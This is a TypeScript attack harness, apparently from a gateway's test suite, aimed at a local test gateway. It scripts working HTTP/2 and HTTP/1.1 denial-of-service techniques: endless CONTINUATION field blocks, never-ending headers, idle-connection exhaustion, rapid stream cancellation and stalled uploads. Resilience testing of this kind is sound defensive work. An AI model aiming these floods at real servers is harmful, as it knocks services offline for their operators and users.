/**
 * What one caller does to a gateway, as a process of its own: `node attack.ts NAME TARGET`. Says `begun` once it is in full
 * swing, and goes on until it is killed.
 */

import { once } from 'node:events';
import { connect as connectHttp2, constants } from 'node:http2';
import { setTimeout as pause, setImmediate as turn } from 'node:timers/promises';
import { type ConnectionOptions, connect as connectTls, type TLSSocket } from 'node:tls';
import { Flag, frame, PREFACE, settings, Type } from '../../wire/http2/frames.ts';

/** How the gateway is reached. */
export interface Target {
  readonly port: number;
  readonly ca: string;
  readonly cert: string;
  readonly key: string;
}

const CONNECTIONS = 1000;
/** Handshakes at a time. */
const AT_ONCE = 20;
const HEAD = 'GET /api/ HTTP/1.1\r\nHost: gateway.test\r\n';

/** GET https://gateway.test/api/, of the static table and literals (RFC 7541 §6). */
const REQUEST = Buffer.concat([
  Buffer.from([0x82, 0x87]),
  literal(0x04, '/api/'),
  literal(0x01, 'gateway.test'),
]);

export const ATTACKS = {
  /** A thousand connections with a field block that does not end. */
  endlessBlocks: async (target: Target) => {
    await onConnections(target, 'h2', async (socket) => {
      socket.write(
        Buffer.concat([
          PREFACE,
          settings(),
          frame(Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 1, REQUEST),
        ]),
      );
      await once(socket, 'data');
      socket.write(frame(Type.HEADERS, Flag.NONE, 3, REQUEST));
      for (let frames = 0; frames < 14; frames++) {
        socket.write(frame(Type.CONTINUATION, Flag.NONE, 3, Buffer.alloc(16_000)));
      }
    });
  },
  /** A thousand connections with a head that does not end. */
  endlessHeads: async (target: Target) => {
    await onConnections(target, 'http/1.1', async (socket) => {
      socket.write(`${HEAD}\r\n`);
      await once(socket, 'data');
      socket.write(
        `${HEAD}${Array.from({ length: 15 }, (_, n) => `x-${n}: ${'a'.repeat(3900)}\r\n`).join('')}`,
      );
    });
  },
  idleConnections: async (target: Target) => {
    await onConnections(
      target,
      'http/1.1',
      async (socket) => {
        socket.write(`${HEAD}\r\n`);
        await once(socket, 'data');
      },
      4000,
    );
  },
  cancelledRequests: (target: Target) => cancelling(target),
  allInFlight: async (target: Target) => {
    for (let sessions = 0; sessions < 4; sessions++) {
      const session = connectHttp2(`https://gateway.test:${target.port}`, as(target, 'h2') as object);
      session.on('error', () => {});
      await once(session, 'connect');
      for (let count = 0; count < 100; count++) {
        const upload = session.request({ ':method': 'POST', ':path': '/api/slow' }, { endStream: false });
        upload.on('error', () => {});
        upload.write(Buffer.alloc(256 * 1024));
      }
    }
    await pause(500);
  },
} satisfies Record<string, (target: Target) => Promise<void>>;

/** From an address of its own. */
function as(target: Target, protocol: string): ConnectionOptions & { localAddress: string } {
  const { port, ca, cert, key } = target;
  return {
    host: '127.0.0.1',
    localAddress: '127.0.0.2',
    port,
    ca,
    cert,
    key,
    servername: 'gateway.test',
    ALPNProtocols: [protocol],
  };
}

/** A field without indexing, with the name at this index. */
function literal(index: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')]);
}

/** What a refused connection says, or does not, is nothing that stops an attack. */
async function onConnections(
  target: Target,
  protocol: string,
  act: (socket: TLSSocket) => Promise<void>,
  most = CONNECTIONS,
): Promise<void> {
  let made = 0;
  const make = async (): Promise<void> => {
    while (made++ < most) {
      const socket = connectTls(as(target, protocol));
      socket.on('error', () => {});
      const gone = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      await Promise.race([
        once(socket, 'secureConnect')
          .then(() => act(socket))
          .catch(() => {}),
        gone,
      ]);
      socket.resume();
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, make));
}

/** Resolves when it is under way; goes on by itself. */
async function cancelling(target: Target): Promise<void> {
  let cancelled = 0;
  const begun = Promise.withResolvers<void>();
  const go = async (): Promise<void> => {
    for (;;) {
      const session = connectHttp2(`https://gateway.test:${target.port}`, as(target, 'h2') as object);
      session.on('error', () => {});
      await once(session, 'connect').catch(() => {});
      for (let count = 0; count < 900 && !session.destroyed && !session.closed; count += 30) {
        const streams = Array.from({ length: 30 }, () => session.request({ ':path': '/api/slow' }));
        for (const stream of streams) stream.on('error', () => {}).resume();
        await Promise.race(
          streams.map((stream) => Promise.race([once(stream, 'response'), pause(20)]).catch(() => {})),
        );
        for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
        cancelled += streams.length;
        if (cancelled > 400) begun.resolve();
        await turn();
      }
      session.destroy();
    }
  };
  void go();
  await begun.promise;
}

if (import.meta.main) {
  const [name = '', target = ''] = process.argv.slice(2);
  const attack = (ATTACKS as Readonly<Record<string, (target: Target) => Promise<void>>>)[name];
  if (attack === undefined) throw new Error(`no attack is named ${name}`);
  await attack(JSON.parse(target) as Target);
  process.stdout.write('begun\n');
  setInterval(() => {}, 1000);
}
